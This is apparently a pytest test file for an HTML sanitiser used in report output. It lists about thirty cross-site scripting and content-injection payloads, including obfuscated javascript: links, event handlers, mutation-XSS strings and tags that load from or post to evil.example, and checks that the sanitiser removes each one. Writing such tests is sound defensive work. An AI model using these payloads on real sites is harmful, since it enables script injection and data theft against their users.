"""What is left of outputs that carry scripts, frames, addresses and style."""

from __future__ import annotations

import re

import pytest

from commlab.report.sanitise import DROPPED, clean

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<div style='background:url(http://evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='background:image-set(\"http://evil.example\" 1x)'>x</div>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=http://evil.example><input name=a><button>x</button></form>",
    "<picture><source srcset='http://evil.example/x.png'></picture>",
    "<source srcset='data:image/png;base64,AA== 1x, http://evil.example/x.png 2x'>",
    "<video src=http://evil.example poster=http://evil.example></video>",
    "<table background=http://evil.example><tr><td>x</table>",
    "<p><textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>",
    "<a href=x ping=http://evil.example>x</a>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_loads_or_restyles(attack):
    left = clean(f"<p>before</p>{attack}")
    assert left.startswith("<p>before</p>")
    assert "evil.example" not in left
    for name in DROPPED:
        assert not re.search(rf"<{name}\b", left, re.IGNORECASE)
    assert not re.search(r"<[^>]*\son\w+\s*=", left, re.IGNORECASE)
    assert not re.search(r"(?i)(href|src|srcset|style)=[^>]*(script|url\(|expression)", left)


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_twice_is_cleaning_once(attack):
    assert clean(clean(attack)) == clean(attack)


def test_text_of_scripts_and_style_sheets_does_not_stay():
    left = clean("<p>a<script>let x = 1</script><style>p{}</style>b</p><title>t</title>")
    assert left == "<p>ab</p>"


def test_what_blocks_and_tables_need_stays():
    kept = [
        '<div class="card" data-state="good"><p class="label">x</p></div>',
        '<td headers="a b" class="gt_row gt_right" colspan="2">1 &lt; 2 &amp; 3</td>',
        '<span class="bar" style="width: 12.5%"></span>',
        '<img src="data:image/png;base64,iVBORw0=" alt="a &lt; b" width="960" height="499">',
        '<source media="(max-width: 600px)" srcset="data:image/png;base64,iVBORw0=" width="4">',
        '<details open><summary>x</summary><p lang="zh-CN">中文</p></details>',
        '<a href="https://example.org/?a=1&amp;b=2">x</a>',
        '<a href="#s1">x</a>',
    ]
    for markup in kept:
        if markup.startswith("<td"):
            left = clean(f"<table><tbody><tr>{markup}</tr></tbody></table>")
            assert markup in left
        else:
            assert clean(markup) == markup


def test_plain_colours_stay():
    style = "color: red; background-color: rgb(1, 2, 3); width: 10%"
    left = clean(
        f'<i style="{style}; position: fixed">x</i>'.replace("<i", "<b").replace("/i", "/b")
    )
    assert "color: red" in left
    assert "rgb(1, 2, 3)" in left
    assert "position" not in left


def test_cleaning_works_in_several_threads():
    from concurrent.futures import ThreadPoolExecutor

    texts = [f"<p>{number}</p><script>{number}</script>" for number in range(200)]
    with ThreadPoolExecutor(4) as pool:
        assert list(pool.map(clean, texts)) == [f"<p>{number}</p>" for number in range(200)]
